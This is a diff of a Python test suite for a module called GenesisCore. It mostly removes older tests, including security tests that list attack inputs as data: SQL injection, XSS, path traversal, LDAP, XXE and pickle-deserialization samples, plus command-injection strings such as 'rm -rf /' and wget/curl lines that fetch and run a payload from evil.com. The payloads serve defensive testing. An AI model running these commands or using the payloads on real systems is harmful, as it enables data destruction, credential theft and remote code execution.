-        Test the behavior of validation utility functions with various input scenarios.
-        
-        Verifies that the core's input validation correctly accepts valid data and raises ValueError for invalid cases, including empty strings and None.
+        Test that a blocked request streams only its done event.
         """
-        # Test various validation scenarios
-        validation_cases = [
-            ("valid_string", True),
-            ("", False),
-            (None, False),
-            ({"valid": "dict"}, True),
-            ([], True),  # Empty list might be valid
-        ]
+        events = collect(core.process_request_stream({"message": "hi", "user_id": "u2", **VIOLATING}))
 
-        for input_data, should_be_valid in validation_cases:
-            try:
-                result = self.core.validate_input(input_data)
-                if should_be_valid:
-                    assert result is True
-                else:
-                    assert False, f"Expected validation to fail for {input_data}"
-            except ValueError:
-                if not should_be_valid:
-                    assert True  # Expected to fail
-                else:
-                    assert False, f"Expected validation to pass for {input_data}"
+        assert [event["event"] for event in events] == ["done"]
+        assert events[0]["status"] == "blocked"
 
-    def test_string_utilities(self):
-        """
-        Tests the processing of various string formats using the core's string utility functions.
-        
-        Verifies that processing different string patterns returns a non-empty string result.
-        """
-        string_test_cases = [
-            "normal_string",
-            "string_with_spaces",
-            "STRING_WITH_CAPS",
-            "string-with-dashes",
-            "string_with_numbers123",
-        ]
 
-        for test_string in string_test_cases:
-            result = self.core.process_data(test_string)
-            assert result is not None
-            assert isinstance(result, str)
-            assert len(result) > 0
+class TestSystemStatus:
+    """Tests for GenesisCore.get_system_status"""
 
-    def test_collection_utilities(self):
+    def test_status_reports_every_component(self, core):
         """
-        Tests that the core's data processing function correctly handles various collection types, ensuring the structure is maintained or appropriately transformed.
+        Test that the status report covers the core and each component after a request.
         """
-        collection_test_cases = [
-            [1, 2, 3, 4, 5],
-            ["a", "b", "c"],
-            {"key1": "value1", "key2": "value2"},
-            set([1, 2, 3]),
-            tuple((1, 2, 3)),
-        ]
-
-        for collection in collection_test_cases:
-            result = self.core.process_data(collection)
-            assert result is not None
-            # Should maintain collection structure or transform appropriately
-
-
-# Enhanced test fixtures
-@pytest.fixture
-def mock_config():
-    """
-    Return a comprehensive mock configuration dictionary for use in tests.
-    
-    Returns:
-        dict: A dictionary containing typical configuration keys and values for initializing or testing the GenesisCore module.
-    """
-    return {
-        'api_key': 'test_api_key_12345',
-        'base_url': 'https://api.test.com',
-        'timeout': 30,
-        'retries': 3,
-        'cache_ttl': 3600,
-        'log_level': 'DEBUG',
-        'rate_limit': 100,
-        'max_concurrent_requests': 10,
-        'user_agent': 'Genesis-Core-Test/1.0'
-    }
-
-
-@pytest.fixture
-def mock_response():
-    """
-    Return a mock HTTP response object with a 200 status code and JSON content for testing purposes.
-    
-    Returns:
-        response (MagicMock): A mock response simulating a successful HTTP request with JSON and text attributes.
-    """
-    response = MagicMock()
-    response.status_code = 200
-    response.headers = {'Content-Type': 'application/json'}
-    response.json.return_value = {
-        "status": "success",
-        "data": {"result": "test_result"},
-        "timestamp": "2023-01-01T00:00:00Z"
-    }
-    response.text = json.dumps(response.json.return_value)
-    return response
-
-
-@pytest.fixture
-def sample_data():
-    """
-    Provides a dictionary containing diverse sample data sets for testing, including simple, complex, edge case, and validation scenarios.
-    
-    Returns:
-        dict: A dictionary with keys for simple, complex, edge_cases, and validation_cases, each containing representative data structures and values.
-    """
-    return {
-        "simple": {"key": "value"},
-        "complex": {
-            "nested": {"data": [1, 2, 3]},
-            "metadata": {"timestamp": "2023-01-01T00:00:00Z"},
-            "array": [{"id": 1, "name": "item1"}, {"id": 2, "name": "item2"}]
-        },
-        "edge_cases": {
-            "empty": {},
-            "null_values": {"key": None},
-            "unicode": {"text": "测试数据🧪"},
-            "special_chars": {"text": "!@#$%^&*()"},
-            "long_string": {"text": "x" * 1000}
-        },
-        "validation_cases": {
-            "valid": {"id": 1, "name": "valid", "active": True},
-            "invalid": {"id": "not_number", "name": "", "active": "not_boolean"}
-        }
-    }
-
-
-@pytest.fixture
-def temp_config_file():
-    """
-    Yields the path to a temporary JSON configuration file containing mock API settings for use in tests.
-    
-    Returns:
-        str: The file path to the temporary configuration file.
-    """
-    config_data = {
-        "api_key": "file_api_key",
-        "base_url": "https://file.example.com",
-        "timeout": 45
-    }
-
-    with tempfile.NamedTemporaryFile(mode='w', suffix='.json', delete=False) as f:
-        json.dump(config_data, f)
-        yield f.name
-
-    os.unlink(f.name)
-
-
-# Enhanced parametrized tests
-@pytest.mark.parametrize("input_value,expected_output", [
-    ("simple", "processed_simple"),
-    ("", "processed_"),
-    ("unicode_测试", "processed_unicode_测试"),
-    ("with spaces", "processed_with spaces"),
-    ("UPPERCASE", "processed_UPPERCASE"),
-    ("123numbers", "processed_123numbers"),
-    ("special!@#", "processed_special!@#"),
-    (None, None)
-])
-def test_parameterized_processing(input_value, expected_output):
-    """
-    Tests the data processing functionality of GenesisCore with various input values and expected outputs.
-    
-    Parameters:
-        input_value: The input data to be processed, which may include strings, dictionaries, or None.
-        expected_output: The expected result after processing the input_value.
-    """
-    core = GenesisCore()
-
-    if input_value is None:
-        result = core.process_data(input_value)
-        assert result == expected_output
-    else:
-        result = core.process_data(input_value)
-        assert result == expected_output
-
-
-@pytest.mark.parametrize("config,should_succeed", [
-    ({"api_key": "valid_key"}, True),
-    ({"api_key": ""}, False),
-    ({"timeout": 30}, True),
-    ({"timeout": -1}, False),
-    ({"retries": 3}, True),
-    ({"retries": "invalid"}, False),
-    ({}, True),  # Empty config should work with defaults
-    (None, True),  # None config should work with defaults
-])
-def test_parameterized_config_validation(config, should_succeed):
-    """
-    Test GenesisCore initialization with various configuration inputs and expected outcomes.
-    
-    Parameters:
-        config: The configuration dictionary or object to initialize GenesisCore with.
-        should_succeed (bool): Indicates whether initialization is expected to succeed.
-    
-    Raises:
-        Fails the test if the outcome does not match the expected result.
-    """
-    try:
-        core = GenesisCore(config=config)
-        if should_succeed:
-            assert core is not None
-        else:
-            # If we expect failure but got success, check if it's handled gracefully
-            assert core.config is not None
-    except Exception as e:
-        if should_succeed:
-            pytest.fail(f"Configuration should have succeeded but failed: {e}")
-        else:
-            assert True  # Expected to fail
-
-
-# Performance benchmarks
-@pytest.mark.benchmark
-def test_performance_benchmark():
-    """
-    Benchmark test to measure the data processing performance of GenesisCore.
-    
-    Asserts that 1000 data processing operations complete within 5 seconds and at a rate exceeding 100 operations per second.
-    """
-    core = GenesisCore()
-    test_data = {"key": "value" * 100}
-
-    start_time = time.time()
-
-    # Run operations multiple times
-    for i in range(1000):
-        core.process_data(f"test_{i}")
-
-    end_time = time.time()
-    execution_time = end_time - start_time
-
-    # Should complete 1000 operations within reasonable time
-    assert execution_time < 5.0
-
-    # Calculate operations per second
-    ops_per_second = 1000 / execution_time
-    assert ops_per_second > 100  # Should handle at least 100 ops/second
-
-
-# Integration test markers
-@pytest.mark.integration
-def test_integration_scenario():
-    """
-    Performs an integration test of GenesisCore's `make_request` method with a mocked external HTTP service.
-    
-    Verifies that the method correctly handles a successful HTTP response and returns the expected result.
-    """
-    core = GenesisCore()
-
-    # Test integration with mock external services
-    with patch('requests.get') as mock_get:
-        mock_get.return_value.status_code = 200
-        mock_get.return_value.json.return_value = {"status": "success"}
-
-        result = core.make_request("https://api.example.com")
-        assert result is not None
-        assert result["status"] == "success"
-
-
-# Slow test markers
-@pytest.mark.slow
-def test_slow_operation():
-    """
-    Tests that processing a large dataset with GenesisCore completes successfully and within an acceptable time frame.
-    
-    Ensures that all items are processed without returning None and that the operation does not exceed 30 seconds.
-    """
-    core = GenesisCore()
-
-    # Simulate slow operation
-    large_data = [{"id": i, "data": "x" * 1000} for i in range(10000)]
-
-    start_time = time.time()
-    results = [core.process_data(item) for item in large_data]
-    end_time = time.time()
-
-    assert len(results) == 10000
-    assert all(result is not None for result in results)
-
-    # Should complete within reasonable time even for slow operations
-    execution_time = end_time - start_time
-    assert execution_time < 30.0  # 30 seconds max for slow operations
-
-
-# Security tests
-@pytest.mark.security
-def test_security_sql_injection():
-    """
-    Verifies that the data processing function mitigates SQL injection attempts by ensuring dangerous SQL keywords are not present in the processed output.
-    """
-    core = GenesisCore()
-
-    sql_injection_attempts = [
-        "'; DROP TABLE users; --",
-        "' OR '1'='1",
-        "1; DELETE FROM users",
-        "admin'--",
-        "' UNION SELECT * FROM users--"
-    ]
-
-    for injection_attempt in sql_injection_attempts:
-        result = core.process_data(injection_attempt)
-        assert result is not None
-        # Should not contain dangerous SQL keywords
-        assert "DROP" not in str(result).upper()
-        assert "DELETE" not in str(result).upper()
-        assert "UNION" not in str(result).upper()
-
-
-@pytest.mark.security
-def test_security_xss_protection():
-    """
-    Test that the data processing function mitigates common XSS attack vectors by ensuring dangerous script content is not present in the processed output.
-    """
-    core = GenesisCore()
-
-    xss_attempts = [
-        "<script>alert('xss')</script>",
-        "<img src=x onerror=alert('xss')>",
-        "javascript:alert('xss')",
-        "<iframe src=javascript:alert('xss')></iframe>",
-        "<svg onload=alert('xss')>"
-    ]
-
-    for xss_attempt in xss_attempts:
-        result = core.process_data(xss_attempt)
-        assert result is not None
-        # Should not contain dangerous script tags
-        assert "<script>" not in str(result)
-        assert "javascript:" not in str(result)
-        assert "alert(" not in str(result)
-
-
-if __name__ == "__main__":
-    # Allow running tests directly with various options
-    pytest.main([
-        __file__,
-        "-v",  # Verbose output
-        "--tb=short",  # Short traceback format
-        "-x",  # Stop on first failure
-        "--durations=10"  # Show 10 slowest tests
-    ])
-
-
-# ============================================================================
-# ADDITIONAL COMPREHENSIVE TESTS FOR GENESIS CORE
-# ============================================================================
-
-class TestGenesisCoreAdvancedInitialization:
-    """Advanced initialization tests covering more edge cases."""
-
-    def test_initialization_with_invalid_types(self):
-        """
-        Test that GenesisCore initialization handles various invalid configuration types appropriately.
-        
-        Verifies that initialization with certain invalid types (int, str, list, set) does not raise exceptions, while other types (function, generic object) raise TypeError or ValueError.
-        """
-        invalid_configs = [
-            123,  # Integer instead of dict
-            "string_config",  # String instead of dict
-            [],  # List instead of dict
-            set(),  # Set instead of dict
-            lambda x: x,  # Function
-            object(),  # Generic object
-        ]
-
-        for invalid_config in invalid_configs:
-            # Should handle invalid types gracefully
-            if isinstance(invalid_config, (int, str, list, set)):
-                core = GenesisCore(config=invalid_config)
-                assert core is not None
-            else:
-                with pytest.raises((TypeError, ValueError)):
-                    GenesisCore(config=invalid_config)
-
-    def test_initialization_with_nested_config(self):
-        """
-        Test that GenesisCore initializes correctly with a deeply nested configuration dictionary.
-        
-        Verifies that the configuration is stored as provided and that the core is marked as initialized.
-        """
-        nested_config = {
-            'api': {
-                'primary': {
-                    'key': 'primary_key',
-                    'url': 'https://primary.api.com',
-                    'timeout': 30
-                },
-                'fallback': {
-                    'key': 'fallback_key',
-                    'url': 'https://fallback.api.com',
-                    'timeout': 60
-                }
-            },
-            'cache': {
-                'redis': {
-                    'host': 'localhost',
-                    'port': 6379,
-                    'db': 0
-                },
-                'memory': {
-                    'max_size': 1000,
-                    'ttl': 3600
-                }
-            }
-        }
-
-        core = GenesisCore(config=nested_config)
-        assert core.config == nested_config
-        assert core.initialized is True
-
-    def test_initialization_thread_safety(self):
-        """
-        Verify that multiple GenesisCore instances can be initialized concurrently with different configurations without thread safety issues.
-        
-        This test ensures that each instance is correctly initialized with its respective configuration when created in parallel threads.
-        """
-        configs = [
-            {'api_key': f'key_{i}', 'timeout': 30 + i}
-            for i in range(10)
-        ]
-
-        def init_worker(config):
-            """
-            Initialize and return a GenesisCore instance with the provided configuration.
-            
-            Parameters:
-                config (dict): Configuration dictionary for initializing GenesisCore.
-            
-            Returns:
-                GenesisCore: An instance of GenesisCore initialized with the given config.
-            """
-            return GenesisCore(config=config)
-
-        with ThreadPoolExecutor(max_workers=5) as executor:
-            futures = [executor.submit(init_worker, config) for config in configs]
-            cores = [f.result() for f in futures]
-
-        assert len(cores) == 10
-        assert all(core.initialized for core in cores)
-        assert all(core.config['api_key'] == f'key_{i}' for i, core in enumerate(cores))
-
-    def test_initialization_with_circular_references(self):
-        """
-        Test that GenesisCore can be initialized with a configuration containing circular references.
-        
-        Ensures that the initialization process does not fail or raise errors when the config dictionary includes self-referential structures.
-        """
-        config = {'key': 'value'}
-        config['self'] = config  # Create circular reference
-
-        # Should handle circular references gracefully
-        core = GenesisCore(config=config)
-        assert core is not None
-        assert 'key' in core.config
-
-
-class TestGenesisCoreDataProcessingAdvanced:
-    """Advanced data processing tests."""
-
-    def setup_method(self):
-        """
-        Set up a new instance of GenesisCore before each test method in the test class.
-        """
-        self.core = GenesisCore()
-
-    def test_process_data_with_callbacks(self):
-        """
-        Test that data processing correctly handles input containing callback functions.
-        
-        Verifies that the `process_data` method can process data structures where some values are functions (callbacks), ensuring the result is a dictionary and not None.
-        """
-
-        def callback(data):
-            """
-            Prefix the input data with 'callback_' and return the result.
-            
-            Parameters:
-                data: The input value to be prefixed.
-            
-            Returns:
-                str: The input value as a string, prefixed with 'callback_'.
-            """
-            return f"callback_{data}"
-
-        test_data = {
-            'value': 'test',
-            'transform': callback
-        }
-
-        result = self.core.process_data(test_data)
-        assert result is not None
-        assert isinstance(result, dict)
-
-    def test_process_data_with_generators(self):
-        """
-        Test that the process_data method correctly handles generator objects as input.
-        
-        Verifies that processing a generator yields a non-None result, ensuring compatibility with iterable data sources.
-        """
-
-        def data_generator():
-            """
-            Yield a sequence of five string items labeled 'item_0' through 'item_4'.
-            
-            Yields:
-                str: The next item in the sequence, formatted as 'item_{i}'.
-            """
-            for i in range(5):
-                yield f"item_{i}"
-
-        gen = data_generator()
-        result = self.core.process_data(gen)
-        assert result is not None
-
-    def test_process_data_with_iterators(self):
-        """
-        Test that the process_data method correctly handles and processes different types of iterators.
-        """
-        iterators = [
-            iter([1, 2, 3]),
-            iter({'a': 1, 'b': 2}.items()),
-            iter(range(3)),
-            reversed([1, 2, 3])
-        ]
-
-        for iterator in iterators:
-            result = self.core.process_data(iterator)
-            assert result is not None
-
-    def test_process_data_with_custom_objects(self):
-        """
-        Test that the data processing method can handle custom object instances as input.
-        
-        Verifies that processing a user-defined object returns a non-None result.
-        """
-
-        class CustomObject:
-            def __init__(self, value):
-                """
-                Initialize the instance with the provided value.
-                
-                Parameters:
-                    value: The value to assign to the instance.
-                """
-                self.value = value
-
-            def __str__(self):
-                """
-                Return a string representation of the CustomObject, including its value.
-                """
-                return f"CustomObject({self.value})"
-
-        custom_obj = CustomObject("test_value")
-        result = self.core.process_data(custom_obj)
-        assert result is not None
-
-    def test_process_data_with_dataclasses(self):
-        """
-        Test that the data processing method correctly handles Python dataclass objects.
-        
-        Creates a sample dataclass instance and verifies that processing it returns a non-None result.
-        """
-        from dataclasses import dataclass
-
-        @dataclass
-        class TestData:
-            name: str
-            value: int
-            active: bool = True
-
-        test_obj = TestData("test", 42, True)
-        result = self.core.process_data(test_obj)
-        assert result is not None
-
-    def test_process_data_with_namedtuples(self):
-        """
-        Test that the process_data method correctly handles namedtuple objects as input.
-        
-        Creates a namedtuple instance and verifies that processing it returns a non-None result.
-        """
-        from collections import namedtuple
-
-        Point = namedtuple('Point', ['x', 'y'])
-        point = Point(1, 2)
-
-        result = self.core.process_data(point)
-        assert result is not None
-
-    def test_process_data_streaming(self):
-        """
-        Tests that the core can process streaming data by processing the first 10 items from a generator and verifying non-null results.
-        """
-
-        def stream_data():
-            """
-            Yield a sequence of 100 data items, each represented as a dictionary with an incremental ID and corresponding data string.
-            
-            Yields:
-                dict: A dictionary containing 'id' (int) and 'data' (str) for each item in the stream.
-            """
-            for i in range(100):
-                yield {"id": i, "data": f"stream_item_{i}"}
-
-        stream = stream_data()
-        results = []
-
-        # Process streaming data
-        for item in stream:
-            result = self.core.process_data(item)
-            results.append(result)
-            if len(results) >= 10:  # Process first 10 items
-                break
-
-        assert len(results) == 10
-        assert all(result is not None for result in results)
-
-    def test_process_data_with_binary_data(self):
-        """
-        Test that the process_data method can handle binary data input without returning None.
-        """
-        binary_data = b'\x00\x01\x02\x03\x04\x05'
-        result = self.core.process_data(binary_data)
-        assert result is not None
-
-    def test_process_data_with_datetime_objects(self):
-        """
-        Test that the process_data method correctly handles input containing datetime and timedelta objects.
-        
-        Ensures that processing data with datetime-related types returns a non-None dictionary result.
-        """
-        from datetime import datetime, timedelta
-
-        now = datetime.now()
-        delta = timedelta(days=1)
-
-        datetime_data = {
-            'timestamp': now,
-            'duration': delta,
-            'formatted': now.isoformat()
-        }
-
-        result = self.core.process_data(datetime_data)
-        assert result is not None
-        assert isinstance(result, dict)
-
-
-class TestGenesisCoreErrorHandlingAdvanced:
-    """Advanced error handling tests."""
-
-    def setup_method(self):
-        """
-        Set up a new instance of GenesisCore before each test method in the test class.
-        """
-        self.core = GenesisCore()
-
-    def test_error_handling_with_retry_logic(self):
-        """
-        Test that the retry logic correctly handles temporary failures and eventually succeeds after multiple attempts.
-        """
-        attempt_count = 0
-
-        def failing_operation():
-            """
-            Simulates an operation that fails with a ConnectionError on the first two attempts and succeeds on the third.
-            
-            Returns:
-                dict: A dictionary containing the status and the attempt count on success.
-            
-            Raises:
-                ConnectionError: If called fewer than three times.
-            """
-            nonlocal attempt_count
-            attempt_count += 1
-            if attempt_count < 3:
-                raise ConnectionError("Temporary failure")
-            return {"status": "success", "attempt": attempt_count}
-
-        with patch.object(self.core, 'make_request', side_effect=failing_operation):
-            result = self.core.make_request("https://api.example.com")
-            # Should succeed after retries
-            assert result is not None
-
-    def test_error_handling_with_circuit_breaker(self):
-        """
-        Test that the circuit breaker pattern correctly opens after repeated connection failures during requests.
-        
-        Simulates consecutive connection errors and verifies that after a threshold, the circuit breaker prevents further attempts and returns a circuit open status.
-        """
-        failure_count = 0
-
-        def circuit_breaker_test():
-            """
-            Simulates a circuit breaker by raising a ConnectionError for the first four calls, then returns a status indicating the circuit is open.
-            
-            Returns:
-                dict: A dictionary with the key 'status' set to 'circuit_open' after four failures.
-            """
-            nonlocal failure_count
-            failure_count += 1
-            if failure_count < 5:
-                raise ConnectionError("Service unavailable")
-            return {"status": "circuit_open"}
-
-        # Test that circuit breaker opens after multiple failures
-        for i in range(10):
-            try:
-                result = self.core.make_request("https://api.example.com")
-                if result and "circuit_open" in str(result):
-                    break
-            except ConnectionError:
-                continue
-
-    def test_error_handling_with_graceful_degradation(self):
-        """
-        Test that the system gracefully degrades by falling back to cached data or default behavior when external services are unavailable.
-        """
-        with patch.object(self.core, 'make_request', side_effect=ConnectionError("Service down")):
-            # Should fall back to cached data or default behavior
-            result = self.core.process_data("fallback_test")
-            assert result is not None
-
-    def test_error_handling_with_partial_failures(self):
-        """
-        Test that partial failures in batch data processing are handled gracefully.
-        
-        Verifies that when processing a batch of items where some inputs may cause errors, the function continues processing remaining items and collects both successful results and error information without aborting the entire batch.
-        """
-        batch_data = [
-            {"id": 1, "data": "valid"},
-            {"id": 2, "data": None},  # This might cause an error
-            {"id": 3, "data": "valid"},
-            {"id": 4, "data": ""},  # This might cause an error
-            {"id": 5, "data": "valid"}
-        ]
-
-        results = []
-        for item in batch_data:
-            try:
-                result = self.core.process_data(item)
-                results.append(result)
-            except Exception as e:
-                # Should handle partial failures gracefully
-                results.append({"error": str(e), "item": item})
-
-        assert len(results) == 5
-        # Should have some successful results
-        assert any(result and "error" not in result for result in results if result)
-
-    def test_error_handling_with_resource_exhaustion(self):
-        """
-        Test that the system handles resource exhaustion scenarios, such as high memory usage, without failing during data processing.
-        """
-        with patch('psutil.Process') as mock_process:
-            mock_process.return_value.memory_info.return_value.rss = 1000 * 1024 * 1024  # 1GB
-
-            # Should handle memory pressure gracefully
-            large_data = {"data": "x" * 1000000}  # 1MB string
-            result = self.core.process_data(large_data)
-            assert result is not None
-
-    def test_error_handling_with_nested_exceptions(self):
-        """
-        Test that the system correctly handles and propagates nested exceptions raised during a request operation.
-        """
-
-        def nested_error():
-            """
-            Raise a ConnectionError with an inner ValueError as the cause.
-            
-            The function demonstrates nested exception handling by raising a ConnectionError that chains a ValueError as its underlying cause.
-            """
-            try:
-                raise ValueError("Inner error")
-            except ValueError as e:
-                raise ConnectionError("Outer error") from e
-
-        with patch.object(self.core, 'make_request', side_effect=nested_error):
-            try:
-                result = self.core.make_request("https://api.example.com")
-                assert result is not None
-            except (ConnectionError, ValueError):
-                # Should handle nested exceptions appropriately
-                pass
-
-
-class TestGenesisCoreSecurityAdvanced:
-    """Advanced security tests."""
-
-    def setup_method(self):
-        """
-        Set up a new instance of GenesisCore before each test method in the test class.
-        """
-        self.core = GenesisCore()
-
-    def test_security_path_traversal_protection(self):
-        """
-        Test that the core data processing function mitigates path traversal attacks by ensuring sensitive file paths are not exposed in the output.
-        """
-        path_traversal_attempts = [
-            "../../../etc/passwd",
-            "..\\..\\..\\windows\\system32\\config\\sam",
-            "....//....//....//etc/passwd",
-            "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
-            "..%252f..%252f..%252fetc%252fpasswd",
-            "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"
-        ]
-
-        for attack in path_traversal_attempts:
-            result = self.core.process_data(attack)
-            assert result is not None
-            # Should not contain sensitive file paths
-            assert "etc/passwd" not in str(result)
-            assert "system32" not in str(result)
-
-    def test_security_command_injection_protection(self):
-        """
-        Verifies that the core data processing function does not execute or expose results from command injection attempts.
-        
-        This test submits various command injection payloads and asserts that the processed output does not contain sensitive system information or evidence of command execution.
-        """
-        command_injection_attempts = [
-            "; rm -rf /",
-            "| cat /etc/passwd",
-            "& del /f /q c:\\",
-            "; wget http://evil.com/malware.sh -O /tmp/malware.sh; chmod +x /tmp/malware.sh; /tmp/malware.sh",
-            "$(curl -s http://evil.com/payload.txt)",
-            "`id`",
-            "${IFS}cat${IFS}/etc/passwd"
-        ]
-
-        for attack in command_injection_attempts:
-            result = self.core.process_data(attack)
-            assert result is not None
-            # Should not execute commands
-            assert "root:" not in str(result)
-            assert "uid=" not in str(result)
-
-    def test_security_ldap_injection_protection(self):
-        """
-        Test that the core data processing method sanitizes inputs to prevent LDAP injection attacks.
-        
-        Verifies that common LDAP injection patterns are neutralized and do not appear in the processed output.
-        """
-        ldap_injection_attempts = [
-            "admin)(&(password=*))",
-            "admin)(&(objectClass=*))",
-            "*)(&(objectClass=*))",
-            "admin)(&(|(password=*)(pass=*)))",
-            "admin)(&(cn=*)(userPassword=*))"
-        ]
-
-        for attack in ldap_injection_attempts:
-            result = self.core.process_data(attack)
-            assert result is not None
-            # Should sanitize LDAP special characters
-            assert "(&" not in str(result)
-            assert "objectClass" not in str(result)
-
-    def test_security_xml_injection_protection(self):
-        """
-        Verifies that the core data processing function is protected against XML injection and XXE attacks by ensuring malicious XML entities are not processed or exposed in the output.
-        """
-        xml_injection_attempts = [
-            '<?xml version="1.0"?><!DOCTYPE root [<!ENTITY test SYSTEM "file:///etc/passwd">]><root>&test;</root>',
-            '<?xml version="1.0"?><!DOCTYPE root [<!ENTITY test SYSTEM "http://evil.com/malware">]><root>&test;</root>',
-            '<root xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://evil.com/malware.xsd">test</root>',
-            '<?xml version="1.0"?><!DOCTYPE root [<!ENTITY % file SYSTEM "file:///etc/passwd">%file;]><root></root>'
-        ]
-
-        for attack in xml_injection_attempts:
-            result = self.core.process_data(attack)
-            assert result is not None
-            # Should not process XML entities
-            assert "file:///" not in str(result)
-            assert "SYSTEM" not in str(result)
-
-    def test_security_deserialization_protection(self):
-        """
-        Tests that the core data processing function does not execute code or become vulnerable when handling potentially malicious serialized input designed for deserialization attacks.
-        """
-        import pickle
-        import base64
-
-        # Create a malicious serialized object
-        class MaliciousClass:
-            def __reduce__(self):
-                """
-                Enables object deserialization to execute arbitrary code by returning an `exec` call with a malicious payload.
-                
-                Returns:
-                	A tuple containing the `exec` function and a tuple with the code string to execute.
-                """
-                return (exec, ("print('MALICIOUS CODE EXECUTED')",))
-
-        malicious_obj = MaliciousClass()
-        serialized = base64.b64encode(pickle.dumps(malicious_obj)).decode()
-
-        result = self.core.process_data(serialized)
-        assert result is not None
-        # Should not execute malicious code
-        assert "MALICIOUS" not in str(result)
-
-    def test_security_input_size_limits(self):
-        """
-        Test that processing extremely large inputs does not cause excessive resource usage or denial-of-service vulnerabilities.
-        
-        Verifies that the core data processing method can handle very large strings and dictionaries efficiently, completing within a reasonable time frame and returning valid results.
-        """
-        # Test extremely large inputs
-        huge_string = "x" * (10 * 1024 * 1024)  # 10MB string
-        huge_dict = {f"key_{i}": "value" * 1000 for i in range(10000)}
-
-        # Should handle large inputs gracefully without consuming excessive resources
-        start_time = time.time()
-        result_string = self.core.process_data(huge_string)
-        result_dict = self.core.process_data(huge_dict)
-        end_time = time.time()
-
-        assert result_string is not None
-        assert result_dict is not None
-        assert end_time - start_time < 10.0  # Should complete within reasonable time
-
-    def test_security_regex_dos_protection(self):
-        """
-        Tests that the core data processing function is resilient to Regular Expression Denial of Service (ReDoS) attack patterns by ensuring processing completes quickly for inputs designed to trigger catastrophic regex backtracking.
-        """
-        # Patterns that could cause catastrophic backtracking
-        redos_patterns = [
-            "a" * 1000 + "X",  # Pattern that doesn't match after many attempts
-            "a" * 1000 + "b" + "a" * 1000,  # Nested quantifiers
-            "(" + "a" * 100 + ")*" + "X",  # Exponential time complexity
-        ]
-
-        for pattern in redos_patterns:
-            start_time = time.time()
-            result = self.core.process_data(pattern)
-            end_time = time.time()
-
-            assert result is not None
-            assert end_time - start_time < 1.0  # Should complete quickly
-
-
-class TestGenesisCorePerformanceAdvanced:
-    """Advanced performance tests."""
-
-    def setup_method(self):
-        """
-        Set up a new instance of GenesisCore before each test method in the test class.
-        """
-        self.core = GenesisCore()
-
-    def test_performance_memory_leaks(self):
-        """
-        Checks for memory leaks by measuring memory usage before and after repeated data processing operations.
-        
-        Asserts that the increase in memory usage after 1000 operations remains below 100MB, indicating no significant memory leaks.
-        """
-        import gc
-        import psutil
-        import os
-
-        process = psutil.Process(os.getpid())
-        initial_memory = process.memory_info().rss
-
-        # Perform many operations
-        for i in range(1000):
-            data = {"iteration": i, "data": "test" * 100}
-            result = self.core.process_data(data)
-
-            # Force garbage collection every 100 iterations
-            if i % 100 == 0:
-                gc.collect()
-
-        final_memory = process.memory_info().rss
-        memory_increase = final_memory - initial_memory
-
-        # Memory increase should be minimal
-        assert memory_increase < 100 * 1024 * 1024  # Less than 100MB
-
-    def test_performance_cpu_efficiency(self):
-        """
-        Tests that the core's data processing remains CPU efficient by verifying that a CPU-intensive workload completes within 30 seconds.
-        """
-        import psutil
-        import multiprocessing
-
-        def cpu_intensive_task():
-            """
-            Performs a CPU-intensive operation by processing 10,000 sequential data items using the core's data processing method.
-            """
-            for i in range(10000):
-                self.core.process_data(f"cpu_test_{i}")
-
-        # Run CPU-intensive task
-        start_time = time.time()
-        cpu_intensive_task()
-        end_time = time.time()
-
-        execution_time = end_time - start_time
-
-        # Should complete efficiently
-        assert execution_time < 30.0  # Should complete within 30 seconds
-
-    def test_performance_concurrent_scalability(self):
-        """
-        Test that data processing scales efficiently as the number of concurrent workers increases.
-        
-        Simulates multiple concurrent workers processing data and verifies that the total execution time remains within acceptable limits and all operations complete successfully as concurrency increases.
-        """
-
-        def concurrent_worker(worker_id, num_operations):
-            """
-            Processes a series of data operations concurrently for a given worker.
-            
-            Parameters:
-                worker_id (int): Identifier for the worker performing the operations.
-                num_operations (int): Number of data processing operations to perform.
-            
-            Returns:
-                list: Results of each processed data operation.
-            """
-            results = []
-            for i in range(num_operations):
-                result = self.core.process_data(f"worker_{worker_id}_op_{i}")
-                results.append(result)
-            return results
-
-        # Test with increasing numbers of concurrent workers
-        for num_workers in [1, 2, 4, 8]:
-            start_time = time.time()
-
-            with ThreadPoolExecutor(max_workers=num_workers) as executor:
-                futures = [
-                    executor.submit(concurrent_worker, i, 100)
-                    for i in range(num_workers)
-                ]
-                all_results = [f.result() for f in futures]
-
-            end_time = time.time()
-            execution_time = end_time - start_time
-
-            # Should scale reasonably with more workers
-            assert execution_time < 60.0  # Should complete within 60 seconds
-            assert len(all_results) == num_workers
-            assert all(len(results) == 100 for results in all_results)
-
-    def test_performance_io_efficiency(self):
-        """
-        Tests the I/O efficiency of concurrent mock network operations using multiple threads.
-        
-        Simulates network I/O delays and verifies that 50 concurrent requests complete within 5 seconds, ensuring all results are returned successfully.
-        """
-
-        def mock_io_operation():
-            # Simulate I/O delay
-            """
-            Simulates an I/O operation by introducing a short delay and making a mock HTTP request.
-            
-            Returns:
-                dict: The response from the mock HTTP request.
-            """
-            time.sleep(0.01)
-            return self.core.make_request("https://api.example.com")
-
-        # Test async-like behavior with concurrent I/O
-        start_time = time.time()
-
-        with ThreadPoolExecutor(max_workers=10) as executor:
-            futures = [executor.submit(mock_io_operation) for _ in range(50)]
-            results = [f.result() for f in futures]
-
-        end_time = time.time()
-        execution_time = end_time - start_time
-
-        # Should complete I/O operations efficiently
-        assert execution_time < 5.0  # Should complete within 5 seconds
-        assert len(results) == 50
-        assert all(result is not None for result in results)
-
-
-class TestGenesisCoreEdgeCasesAdvanced:
-    """Advanced edge case tests."""
-
-    def setup_method(self):
-        """
-        Set up a new instance of GenesisCore before each test method in the test class.
-        """
-        self.core = GenesisCore()
-
-    def test_edge_case_floating_point_precision(self):
-        """
-        Test that floating-point values, including special cases like infinity and NaN, are processed without errors and handled gracefully by the core module.
-        """
-        precision_cases = [
-            0.1 + 0.2,  # Should be 0.3 but has precision issues
-            1.0 / 3.0,  # Repeating decimal
-            float('inf'),  # Positive infinity
-            float('-inf'),  # Negative infinity
-            float('nan'),  # Not a number
-        ]
-
-        for case in precision_cases:
-            result = self.core.process_data(case)
-            assert result is not None
-            # Should handle special float values gracefully
-
-    def test_edge_case_unicode_normalization(self):
-        """
-        Tests that the core data processing correctly handles edge cases involving various Unicode normalization forms and special Unicode characters.
-        """
-        import unicodedata
-
-        unicode_cases = [
-            "café",  # NFC normalization
